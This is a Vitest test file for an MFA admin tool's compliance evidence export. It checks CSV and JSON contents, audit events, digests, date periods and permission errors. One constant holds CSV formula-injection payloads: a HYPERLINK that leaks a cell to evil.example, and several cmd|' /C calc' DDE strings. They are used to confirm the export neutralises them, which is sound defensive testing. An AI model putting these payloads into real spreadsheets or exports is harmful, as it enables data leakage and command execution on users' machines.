// @vitest-environment node
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { MfaAdminError } from '../../src/core/adminErrors';
import type { AdminAuditEvent, AdminUserRow } from '../../src/ports';
import { COMPLIANCE_CONTROLS, COMPLIANCE_CSV_SECTIONS, COMPLIANCE_EXPORT_FORMAT } from '../../src/server';
import { type AdminTarget, adminTargetsFor, HTTP, SIMULATOR, TARGET_NAMES } from './support/adminTargets';
import { type ParsedComplianceCsv, parseComplianceCsv, unescapeFormula } from './support/parseComplianceCsv';

/**
 * The compliance evidence export, run the same way against the simulator and against
 * `createMfaAdminHandler` on cognito-local: the CSV is parsed back with Papa Parse (the library that
 * wrote it) and compared with what the adapter itself lists; cells that would run as a formula are
 * neutralised; the SHA-256 in the audit event is the file's.
 */
const password = 'Passw0rd-long!';
const people = [
  { username: 'root', password, groups: ['admin'] },
  { username: 'bob', password, groups: ['support'] },
  { username: 'alice', password, email: 'alice@example.com', groups: ['finance'], totp: true },
  { username: 'carol', password, totp: true },
  { username: 'dave', password, totp: true },
];
/** Justifications an attacker could type, each starting with a character a spreadsheet runs. */
const INJECTIONS = {
  reset: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details") lost phone',
  bypass: "+cmd|' /C calc'!A0 travelling without phone\nsecond line",
  policy: "@SUM(1+1)*cmd|' /C calc'!A0 rollout ticket 4711",
  pool: "-2+3+cmd|' /C calc'!A0 quarterly review",
  tab: '\t=1+1 ticket 4711, identity checked',
};

const targetNamed = adminTargetsFor(people);

const sha256 = (text: string) => createHash('sha256').update(text, 'utf8').digest('hex');
const asCells = (row: AdminUserRow): Record<string, string> => ({
  username: row.username,
  email: row.email ?? '',
  groups: row.groups.join(' '),
  methods: row.methods.join(' '),
  preferred: row.preferred ?? '',
  compliance: row.compliance,
  graceUntil: row.graceUntil ?? '',
  bypassUntil: row.bypassUntil ?? '',
  lastChangedAt: row.lastChangedAt ?? '',
});
const codeOf = (promise: Promise<unknown>) =>
  promise.then(
    () => 'resolved',
    (error: unknown) =>
      error instanceof MfaAdminError ? error.code : `not an MfaAdminError: ${String(error)}`,
  );

async function everyUser(admin: AdminTarget['admin']): Promise<AdminUserRow[]> {
  const rows: AdminUserRow[] = [];
  let cursor: string | undefined;
  do {
    const page = await admin.listUsers(cursor ? { cursor } : {});
    rows.push(...page.items);
    cursor = page.cursor;
  } while (cursor);
  return rows.sort((a, b) => a.username.localeCompare(b.username));
}

/** The parsed CSV of each target, compared across targets at the end. */
const parsed: Partial<Record<string, ParsedComplianceCsv>> = {};

describe.each(TARGET_NAMES)('compliance evidence export: %s', (name) => {
  const target = () => targetNamed(name);
  let before = '';

  it('records the period’s resets, bypasses and changes first', async () => {
    const { admin } = target();
    before = new Date(Date.now() - 1000).toISOString();
    await admin.setPolicy({
      policy: { requiredRoles: ['admin', 'finance'], policyStart: '2026-01-01' },
      justification: INJECTIONS.policy,
    });
    await admin.setPoolMfaConfig({ mode: 'OPTIONAL', methods: ['TOTP'], justification: INJECTIONS.pool });
    await admin.resetUserMfa({ username: 'alice', justification: INJECTIONS.reset });
    await admin.bypassUserMfa({ username: 'carol', justification: INJECTIONS.bypass, hours: 2 });
    await admin.bypassUserMfa({ username: 'dave', justification: INJECTIONS.tab, hours: 1 });
    await admin.endBypass({ username: 'dave' });
  });

  it('CSV: parsed back with Papa Parse, it holds what the adapter lists, formulas neutralised', async () => {
    const { admin } = target();
    const file = await admin.exportCompliance({ format: 'csv' });
    const csv = parseComplianceCsv(file.body);
    parsed[name] = csv;
    expect(csv.headers).toEqual(Object.values(COMPLIANCE_CSV_SECTIONS));

    // The export's own facts: format, time, period (default 90 days), pool, policy, counts.
    const generated = Date.parse(csv.report.generatedAt ?? '');
    expect(Math.abs(generated - Date.now())).toBeLessThan(60_000);
    expect(csv.report).toMatchObject({
      report: 'MFA compliance evidence',
      format: COMPLIANCE_EXPORT_FORMAT,
      periodTo: csv.report.generatedAt,
      periodFrom: new Date(generated - 90 * 86_400_000).toISOString(),
      poolMfaConfiguration: 'OPTIONAL',
      poolMfaMethods: 'TOTP',
      'policy.requiredRoles': 'admin finance',
      'policy.adminRoles': 'admin',
      'policy.gracePeriodDays': '7',
      'policy.policyStart': '2026-01-01T00:00:00.000Z',
      users: '5',
      bypassed: '1',
    });
    expect(csv.controls.map((row) => `${row.framework} ${row.control}`)).toEqual([
      'SOC 2 CC6.1',
      'PCI-DSS v4.0 8.3.1',
      'HIPAA 164.312(d)',
      'NIST SP 800-53 IA-2',
    ]);
    expect(csv.controls.map((row) => row.evidence)).toEqual(COMPLIANCE_CONTROLS.map((c) => c.evidence));

    // Round trip: every user exactly as listUsers shows them.
    expect(csv.users).toEqual((await everyUser(admin)).map(asCells));

    // The period's events exactly as the audit log holds them (oldest first); the export's own is not one.
    const log = (await admin.getAuditLog({ limit: 100, from: before })).items
      .filter((event) => event.type !== 'compliance_exported')
      .reverse();
    expect(log.map((event) => event.type)).toEqual([
      'policy_changed',
      'pool_mfa_changed',
      'mfa_reset',
      'mfa_bypass',
      'mfa_bypass',
      'mfa_bypass_ended',
    ]);
    // Oldest first; events of the same millisecond by id (the store's write order is not kept across types).
    const byTime = [...log].sort((a, b) => (a.at === b.at ? a.id.localeCompare(b.id) : a.at < b.at ? -1 : 1));
    expect(
      csv.events.map((row) => ({ ...row, justification: unescapeFormula(row.justification ?? '') })),
    ).toEqual(
      byTime.map((event: AdminAuditEvent) => ({
        eventId: event.id,
        type: event.type,
        at: event.at,
        actor: 'root',
        target: event.target ?? '',
        status: 'done',
        justification: event.justification ?? '',
        details: JSON.stringify(event.details),
      })),
    );

    // Every dangerous cell starts with an apostrophe: a spreadsheet shows it as text.
    const raw = csv.events.map((row) => row.justification);
    for (const text of Object.values(INJECTIONS)) expect(raw).toContain(`'${text}`);
    const cells = [csv.report, ...csv.controls, ...csv.users, ...csv.events].flatMap(Object.values);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    // The digest is the file's, and the audit trail records it.
    expect(file.sha256).toBe(sha256(file.body));
    const [exported] = (await admin.getAuditLog({ type: 'compliance_exported', limit: 1 })).items;
    expect(exported).toMatchObject({
      id: file.auditId,
      actor: 'root',
      status: 'done',
      details: { format: 'csv', sha256: file.sha256, filename: file.filename, users: 5, events: 6 },
    });
  });

  it('JSON: the same report, with the policy and full events', async () => {
    const { admin } = target();
    const file = await admin.exportCompliance({ format: 'json' });
    expect(file.contentType).toBe('application/json');
    expect(file.filename).toMatch(/^mfa-compliance-\d{4}-\d\d-\d\d\.json$/);
    expect(file.sha256).toBe(sha256(file.body));
    const report = JSON.parse(file.body);
    expect(Object.keys(report)).toEqual([
      'format',
      'generatedAt',
      'period',
      'pool',
      'policy',
      'summary',
      'controls',
      'users',
      'events',
    ]);
    expect(report.users).toEqual(await everyUser(admin));
    expect(report.controls).toEqual(COMPLIANCE_CONTROLS);
    expect(report.policy).toMatchObject({ requiredRoles: ['admin', 'finance'], gracePeriodDays: 7 });
    expect(report.summary).toMatchObject({ users: 5, bypassed: 1 });
    expect(report.events.map((event: AdminAuditEvent) => event.justification)).toContain(INJECTIONS.reset);
    const [exported] = (await admin.getAuditLog({ type: 'compliance_exported', limit: 1 })).items;
    expect(exported).toMatchObject({ id: file.auditId, details: { format: 'json', sha256: file.sha256 } });
  });

  it('lists only the events of the requested period', async () => {
    const { admin } = target();
    const earlier = new Date(Date.parse(before) - 86_400_000).toISOString();
    const file = await admin.exportCompliance({ format: 'csv', from: earlier.slice(0, 10), to: before });
    const csv = parseComplianceCsv(file.body);
    expect(csv.events).toEqual([]);
    expect(csv.report).toMatchObject({
      periodFrom: `${earlier.slice(0, 10)}T00:00:00.000Z`,
      periodTo: before,
    });
    expect(csv.users).toHaveLength(5);
  });

  it('keeps an adoption snapshot per export, and one on request, for the chart', async () => {
    const { admin, nonAdmin } = target();
    const listAdoption = admin.listAdoptionSnapshots?.bind(admin);
    const recordAdoption = admin.recordAdoptionSnapshot?.bind(admin);
    if (!listAdoption || !recordAdoption) throw new Error('the adapter keeps no adoption history');
    const before = await listAdoption();
    // The CSV, JSON and period exports above each kept one.
    expect(before.length).toBeGreaterThanOrEqual(3);
    expect(before.map((snapshot) => snapshot.at)).toEqual(before.map((snapshot) => snapshot.at).sort());
    const users = await everyUser(admin);
    const withMfa = users.filter((row) => row.methods.length > 0).length;
    expect(before.at(-1)?.byRole['*']).toEqual({ withMfa, total: 5 });
    const recorded = await recordAdoption();
    expect(recorded.byRole).toMatchObject({ '*': { withMfa, total: 5 }, finance: { total: 1 } });
    const after = await listAdoption({ limit: 2 });
    expect(after).toHaveLength(2);
    expect(after.at(-1)).toEqual(recorded);
    expect(await codeOf(nonAdmin.listAdoptionSnapshots?.() ?? Promise.resolve())).toBe('FORBIDDEN');
  });

  it('refuses a bad period and a non-admin with the same codes', async () => {
    const { admin, nonAdmin } = target();
    const now = Date.now();
    const day = (offset: number) => new Date(now + offset * 86_400_000).toISOString();
    expect(await codeOf(admin.exportCompliance({ format: 'csv', from: day(-1), to: day(-2) }))).toBe(
      'INVALID_REQUEST',
    );
    expect(await codeOf(admin.exportCompliance({ format: 'csv', from: day(-400), to: day(-1) }))).toBe(
      'INVALID_REQUEST',
    );
    expect(await codeOf(admin.exportCompliance({ format: 'csv', from: 'last tuesday' }))).toBe(
      'INVALID_REQUEST',
    );
    expect(await codeOf(admin.exportCompliance({ format: 'xml' as 'csv' }))).toBe('INVALID_REQUEST');
    expect(await codeOf(nonAdmin.exportCompliance({ format: 'csv' }))).toBe('FORBIDDEN');
  });
});

it('the simulator and the server write the same evidence (times and ids aside)', () => {
  const shape = (csv: ParsedComplianceCsv | undefined) => ({
    headers: csv?.headers,
    report: Object.keys(csv?.report ?? {}),
    controls: csv?.controls,
    users: csv?.users.map((row) => ({ ...row, graceUntil: '', bypassUntil: '', lastChangedAt: '' })),
    events: csv?.events
      .map((row) => [row.type, row.actor, row.target, row.status, row.justification].join(' | '))
      .sort(),
  });
  expect(parsed[SIMULATOR]).toBeDefined();
  expect(shape(parsed[SIMULATOR])).toEqual(shape(parsed[HTTP]));
});
